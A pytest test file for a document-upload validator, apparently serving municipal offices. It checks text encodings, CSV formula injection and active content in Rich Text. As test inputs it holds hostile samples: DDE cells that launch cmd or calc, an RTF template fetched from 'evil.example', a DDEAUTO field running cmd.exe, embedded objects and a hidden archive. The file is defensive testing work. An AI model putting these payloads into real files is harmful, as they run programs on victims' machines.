"""Text, tables as text and Rich Text."""

import pytest

from . import hostile


@pytest.mark.parametrize(
    "content",
    [
        "Vendim për çështjet e ujësjellësit".encode(),
        "Одлука о буџету".encode(),
        "Odluka o budžetu – član 5".encode("cp1250"),
        "Vendim për çështje".encode("utf-16"),
        "\ufeffVendim".encode(),
        b"MZ-ja e komunes\r\n\x1a",
        ("ë" * 300_000).encode(),
    ],
)
def test_text_in_the_encodings_of_offices_is_taken(taken, content):
    assert taken(content, "a.txt").extension == "txt"


@pytest.mark.parametrize(
    "content",
    [
        b"Vendimi" + b"x" * 5000 + b"\0binary",
        b"Vendimi" + b"\x01\x02\x03" * 20,
        b"Vendimi \x81\x83\x88",
        b"\xff\xfeV\0e",
        b"x" * 300_000 + b"\x81",
    ],
)
def test_what_is_not_readable_to_its_last_byte_is_refused(refused, content):
    if content == b"\xff\xfeV\0e":
        content += b"\0n\0\xd8"
    assert refused(content, "a.txt")[0] == "no_text"


def test_an_archive_behind_text_is_refused(refused):
    hidden = hostile.zipped({"a": b"a"})
    assert refused(rb"{\rtf1 Vendimi}" + hidden, "a.rtf")[0] == "two_formats"


@pytest.mark.parametrize(
    "row", [b"=1+1;x", b"a;=SUM(A1:A9)", b'a,"=HYPERLINK(""http://x"")"', b"a;+A1+B2", b"a;@SUM(A1)", b"a;-2*3"]
)
def test_cells_that_begin_like_formulas_are_marked_in_a_table_only(warned, row):
    assert warned(b"emri;shuma\n" + row, "a.csv") == {"formulas"}
    assert warned(b"emri;shuma\n" + row, "a.txt") == set()


@pytest.mark.parametrize(
    "row",
    [b"-5,30", b"+383 44 123 456", b"- Buxheti (2024)", b"@kuvendi", b"a=b", b"-", b"info@komuna.net", b"a - b; -12.5"],
)
def test_numbers_telephones_and_dashes_are_no_formulas(warned, row):
    assert warned(b"emri;shuma\n" + row + b";" + row, "a.csv") == set()


@pytest.mark.parametrize("row", [b"=cmd|'/C calc'!A0", b"a;+cmd|' /C notepad'!'A1'", b"x,\"@MSEXCEL|'a'!b\""])
def test_cells_that_start_programs_are_refused(refused, row):
    assert refused(b"emri;shuma\n" + row, "a.csv")[0] == "starts_program"


def test_a_formula_at_the_border_of_two_pieces_is_found(warned):
    filler = b"a;b\n" * 65535 + b"a;"
    assert warned(filler + b"=SUM(A1:A2)", "a.csv") == {"formulas"}


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "embedded_object"),
        (rb"{\rtf1 " + b"x" * 300_000 + rb"{\object \objocx}}", "embedded_object"),
        (rb"{\rtf1{\*\template http://evil.example/a.dotm}}", "loads_from_elsewhere"),
        (rb"{\rtf1{\*\template \'68ttp://evil}}", "loads_from_elsewhere"),
        (rb"{\rtf1{\field{\*\fldinst{DDEAUTO c:\\windows\\cmd.exe}}}}", "starts_program"),
        (rb"{\rt Vendimi}", "broken"),
        (rb"{\rtf1 <script>alert(1)</script>}", "two_formats"),
    ],
)
def test_rich_text_that_carries_or_fetches_something_active_is_refused(refused, content, code):
    assert refused(content, "a.rtf")[0] == code


def test_rich_text_with_links_and_pictures_is_taken(warned):
    content = rb'{\rtf1{\field{\*\fldinst{HYPERLINK "https://komuna.example"}}{\fldrslt x}}{\pict\pngblip 89}}'
    assert warned(content, "a.rtf") == set()
    assert warned(rb'{\rtf1{\field{\*\fldinst INCLUDEPICTURE "a.png"}}}', "a.rtf") == {"linked_content"}
